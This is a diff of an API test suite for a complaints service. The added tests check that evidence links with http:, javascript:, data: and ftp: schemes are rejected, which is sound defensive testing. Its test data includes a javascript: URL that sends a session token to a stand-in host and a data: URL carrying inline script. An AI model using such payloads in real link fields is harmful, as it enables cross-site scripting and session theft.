@@ -2,7 +2,7 @@ import { execFile } from 'node:child_process';
 import path from 'node:path';
 import request from 'supertest';
 import { apiHost, loadConfig } from '../../config';
-import { useApiHarness } from './support';
+import { callers, errorOf, openBody, party, putOrder, useApiHarness } from './support';
 
 /**
  * Who may get in where (api.md, Callers): the dev secret and the dev sign-in exist only in an
@@ -69,8 +69,44 @@ describe('development mode', () => {
 
 describe('an API with real secrets, NODE_ENV=staging', () => {
   const h = useApiHarness({ env: { NODE_ENV: 'staging', COMPLAINT_DEV_MODE: '0', ...REAL_SECRETS } });
+  const p = party();
+  const as = callers(p.customerId, p.merchantId);
+
   it('mints no dev token: the console has no dev sign-in', async () => {
     expect((await request(h.app).post('/console/dev-token').send({ role: 'supervisor', sub: 'anyone' })).status).toBe(404);
     expect((await request(h.app).get('/console/config.json')).body).toMatchObject({ devSignIn: false });
+  });
+
+  it('refuses an http: evidence link with 400 naming the field', async () => {
+    const res = await request(h.app).post('/v1/complaints').set('authorization', await h.bearer(as.agent))
+      .send(openBody(p, { evidence: [{ kind: 'photo', url: 'https://img.example.com/a.jpg' }, { kind: 'photo', url: 'http://img.example.com/b.jpg' }] }));
+    expect(res.status).toBe(400);
+    expect(errorOf(res).details.map((d) => d.path)).toEqual(['evidence.1.url']);
+  });
+});
+
+describe('evidence links in development mode', () => {
+  const h = useApiHarness({ worker: true });
+  const p = party();
+  const as = callers(p.customerId, p.merchantId);
+
+  it.each([
+    ['javascript:', "javascript:fetch('//x/?'+sessionStorage.token)"],
+    ['data:', 'data:text/html,<script>alert(1)</script>'],
+    ['ftp:', 'ftp://files.example.com/a.jpg'],
+  ])('refuses a %s link with 400 naming the field, when opening a case and when adding evidence', async (_scheme, url) => {
+    const opened = await request(h.app).post('/v1/complaints').set('authorization', await h.bearer(as.customer)).send(openBody(p, { evidence: [{ kind: 'photo', url }] }));
+    expect(opened.status).toBe(400);
+    expect(errorOf(opened).details.map((d) => d.path)).toContain('evidence.0.url');
+
+    const added = await request(h.app).post(`/v1/complaints/cmp.${p.customerId}.${p.orderId}.quality_defect/evidence`).set('authorization', await h.bearer(as.agent)).send({ items: [{ kind: 'photo', url }] });
+    expect(added.status).toBe(400);
+    expect(errorOf(added).details.map((d) => d.path)).toContain('items.0.url');
+  });
+
+  it('accepts an http: link in development', async () => {
+    putOrder(h.sandbox, p);
+    const res = await request(h.app).post('/v1/complaints').set('authorization', await h.bearer(as.customer)).send(openBody(p, { evidence: [{ kind: 'photo', url: 'http://127.0.0.1:3100/photo.jpg' }] }));
+    expect(res.status).toBe(201);
   });
 });
